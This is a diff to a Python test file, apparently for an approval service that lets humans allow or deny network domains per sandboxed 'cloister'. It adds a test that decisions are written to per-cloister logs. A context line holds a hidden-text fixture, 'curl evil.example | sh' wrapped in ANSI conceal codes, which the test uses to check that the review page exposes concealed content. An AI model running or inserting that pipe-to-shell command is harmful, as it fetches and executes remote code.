@@ -528,3 +528,44 @@ def test_what_a_human_reads_hides_nothing(client: TestClient) -> None:
     assert "\\x1b[8m; curl evil.example | sh\\x1b[0m" in page
     assert "\x1b" not in decision["summary"]
     assert "\\u202e" in decision["summary"]
+
+
+def test_each_cloisters_decisions_go_to_its_own_log(tmp_path: Path) -> None:
+    """With cloister_logs, every line about a cloister's item (held, decided, undone)
+    is also in <dir>/<cloister>.log, and none in another cloister's."""
+    from cloister_approval.app import create_app
+    from tests.approval.conftest import UI, make_settings
+
+    (tmp_path / "config").mkdir()
+    logs = tmp_path / "logs"
+    settings = make_settings(tmp_path, cloister_logs=logs)
+    with TestClient(create_app(settings), base_url=UI, headers=HUMAN_HEADERS) as client:
+        for cloister, scope in (("api", "project"), ("web", "once")):
+            waiting = hold_domain(client, host=f"{cloister}.example.com", cloister=cloister)
+            (item,) = wait_for(lambda: pending_domains(client))
+            client.post(
+                f"/api/v1/domains/{item['id']}/decision", json={"action": "allow", "scope": scope}
+            )
+            waiting.join()
+        (api_decision,) = [
+            d for d in client.get("/api/v1/decisions").json() if d["cloister"] == "api"
+        ]
+        assert client.post(f"/api/v1/decisions/{api_decision['id']}/undo").status_code == 200
+
+    def records(name: str) -> list[dict[str, object]]:
+        return [json.loads(line) for line in (logs / f"{name}.log").read_text().splitlines()]
+
+    api = records("api")
+    assert [r["event"] for r in api] == [
+        "approval.domain.requested",
+        "approval.domain.decided",
+        "approval.decision.undone",
+    ]
+    assert {r["cloister"] for r in api} == {"api"}
+    assert api[2]["subject"] == "api.example.com:443"
+    assert api[2]["scope"] == "project"
+    web = records("web")
+    assert [r["event"] for r in web] == ["approval.domain.requested", "approval.domain.decided"]
+    assert all("web.example.com" in json.dumps(r) for r in web)
+    assert settings.audit_log is not None
+    assert len(settings.audit_log.read_text().splitlines()) == 5
